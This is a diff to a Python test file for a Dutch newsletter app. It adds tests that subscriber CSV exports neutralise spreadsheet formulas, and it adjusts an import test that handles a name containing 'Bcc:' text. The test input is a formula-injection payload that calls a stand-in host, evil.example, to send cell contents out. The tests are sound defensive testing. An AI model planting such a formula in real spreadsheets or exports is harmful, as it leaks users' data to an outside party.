@@ -130,8 +130,9 @@ def test_import_with_consent_activates_and_without_keeps_pending(tmp_path):
     assert anna.status == Subscriber.Status.ACTIVE
     assert anna.consent_given_at is not None
     assert list(anna.segments.all()) == [segment]
-    assert Subscriber.objects.count() == 1
-    assert "Rij 3" in errors.getvalue() and "Rij 4" in errors.getvalue()
+    assert Subscriber.objects.get(email="b@school.nl").name == "Bob Bcc: x@y.nl", "a name is put on one line"
+    assert Subscriber.objects.count() == 2
+    assert "Rij 3" in errors.getvalue() and "Rij 4" not in errors.getvalue()
 
 
 def test_import_without_consent_stores_pending(tmp_path):
@@ -295,3 +296,24 @@ def test_an_editor_with_the_english_admin_sends_a_dutch_newsletter(
     text = smtp_server.messages[0][1].get_body(("plain",)).get_content()
     assert "Afmelden: " in text
     assert "Unsubscribe" not in text
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
+
+
+def test_export_command_neutralises_formulas():
+    SubscriberFactory(email="a@school.nl", name=FORMULA)
+    out = io.StringIO()
+
+    call_command("export_subscribers", stdout=out)
+
+    assert list(csv.DictReader(io.StringIO(out.getvalue())))[0]["name"] == "'" + FORMULA
+
+
+def test_admin_list_export_neutralises_formulas(admin_client):
+    SubscriberFactory(email="a@school.nl", name=FORMULA)
+
+    response = admin_client.get(reverse("wagtailsnippets_newsletters_subscriber:list"), {"export": "csv"})
+
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[1][:2] == ["a@school.nl", "'" + FORMULA]
